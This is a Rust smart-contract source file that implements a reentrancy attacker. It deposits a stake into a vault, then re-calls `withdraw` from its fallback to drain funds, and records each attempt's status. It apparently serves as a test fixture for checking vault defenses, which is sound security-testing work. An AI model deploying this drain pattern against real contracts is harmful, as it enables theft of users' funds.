//! attacker: tries to drain a vault by reentrancy. `attack(vault, rounds)` deposits the ether sent with it and
//! withdraws it; when the vault sends the money back, the fallback calls `withdraw` again, up to `rounds` times while
//! the vault still holds enough. It records how each reentrant attempt ended (the host's status code: 0 success,
//! 1 reverted, 2 failed) so a test can see why the attack did or did not work.
//!
//! The attacker itself opts in to reentrancy: the vault's payout calls back into it while `attack` is still running.

#![no_std]

use contracts_sdk::calls::{self, Status, ALL_GAS};
use contracts_sdk::context::{address, balance};
use contracts_sdk::prelude::*;

const VAULT: StorageCell<Address> = StorageCell::new(0);
const ROUNDS_LEFT: StorageCell<U256> = StorageCell::new(1);
const STAKE: StorageCell<U256> = StorageCell::new(2);
const ATTEMPTS: StorageCell<U256> = StorageCell::new(3);
const LAST_STATUS: StorageCell<U256> = StorageCell::new(4);

const DEPOSIT: [u8; 4] = selector("deposit()");
const WITHDRAW: [u8; 4] = selector("withdraw()");

const REENTERED: [u8; 32] = keccak256_const(b"Reentered(uint256,uint256)");

contracts_sdk::allow_reentrancy!();

fn attack((vault, rounds): (Address, U256)) -> Result<U256, Revert> {
    let stake = call_value();
    require(!stake.is_zero(), "send the stake with the call");
    VAULT.set(vault);
    ROUNDS_LEFT.set(rounds);
    STAKE.set(stake);
    let (status, data) = calls::call(&vault, stake, &DEPOSIT, ALL_GAS);
    if status != Status::Success {
        return Err(Revert::data(data));
    }
    let (status, data) = calls::call(&vault, U256::ZERO, &WITHDRAW, ALL_GAS);
    if status != Status::Success {
        return Err(Revert::data(data));
    }
    // What the attack brought home: everything this contract now holds.
    Ok(balance(&address()))
}

/// Runs when the vault pays out (a call with no selector): withdraw again while rounds are left and the vault can pay.
fn on_payment(_input: Vec<u8>) {
    let vault = VAULT.get();
    let rounds = ROUNDS_LEFT.get();
    if caller() != vault || rounds.is_zero() || balance(&vault) < STAKE.get() {
        return;
    }
    ROUNDS_LEFT.set(rounds - U256::ONE);
    let (status, _) = calls::call(&vault, U256::ZERO, &WITHDRAW, ALL_GAS);
    let code = match status {
        Status::Success => 0u64,
        Status::Reverted => 1,
        Status::Failed => 2,
    };
    let attempts = ATTEMPTS.get() + U256::ONE;
    ATTEMPTS.set(attempts);
    LAST_STATUS.set(U256::from(code));
    Event::new(REENTERED).data(&attempts).data(&U256::from(code)).emit();
}

contracts_sdk::entry! {
    fallback: on_payment,
    "attack(address,uint256)" => attack,
    "attempts()" => |()| ATTEMPTS.get(),
    "lastStatus()" => |()| LAST_STATUS.get(),
}
